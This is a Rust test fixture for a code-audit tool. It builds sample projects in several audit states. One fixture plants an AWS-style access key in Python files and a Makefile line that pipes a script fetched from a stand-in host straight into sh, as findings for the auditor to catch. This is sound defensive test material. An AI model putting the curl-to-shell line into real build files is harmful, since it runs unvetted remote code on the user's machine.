//! The trees that are reported on, each in another state.

use assize_tests::Machine;

/// A key that rules know, in two halves so that this file holds none.
pub(crate) const KEY: &str = concat!("AK", "IAQ3EGUR7TNM5V2WXY");

/// A complete audit with findings, in files with names that need escaping.
pub(crate) fn complete() -> Machine {
    let machine = Machine::with_files(60);
    for name in ["a b.py", "percent%41.py", "日本語.py", "[x](y).py", "hash#query?.py", "line\nbreak.py"] {
        machine.write(name, &format!("# A comment.\nKEY = \"{KEY}\"\n"));
    }
    machine.write("Makefile", "all:\n\tcurl http://example.invalid/x.sh | sh\n");
    machine.write("Cargo.lock", "version = 4\n");
    machine.assize(&["run"]).run().exits(0);
    machine
}

/// An audit that was stopped by a budget.
pub(crate) fn paused() -> Machine {
    let machine = Machine::with_files(150);
    machine.assize(&["run", "--max-launches", "1"]).run().exits(4);
    machine
}

/// An audit of which nothing was reviewed.
pub(crate) fn only_planned() -> Machine {
    let machine = Machine::with_files(6);
    machine.assize(&["plan"]).run().exits(0);
    machine
}

/// An audit by an agent that finds something in each task and has it looked at a second time.
pub(crate) fn by_an_agent() -> Machine {
    let machine = Machine::with_files(12);
    machine.use_worker(&["--findings"]);
    machine.assize(&["run"]).run().exits(0);
    machine
}

/// An audit that finds nothing.
pub(crate) fn without_findings() -> Machine {
    let machine = Machine::new();
    machine.write("a.py", "def add(a, b):\n    return a + b\n");
    machine.assize(&["run"]).run().exits(0);
    machine
}

/// All of them, with the exit code of their reports.
pub(crate) fn all() -> Vec<(&'static str, Machine, i32)> {
    vec![
        ("complete", complete(), 0),
        ("paused", paused(), 3),
        ("only planned", only_planned(), 3),
        ("by an agent", by_an_agent(), 0),
        ("without findings", without_findings(), 0),
    ]
}
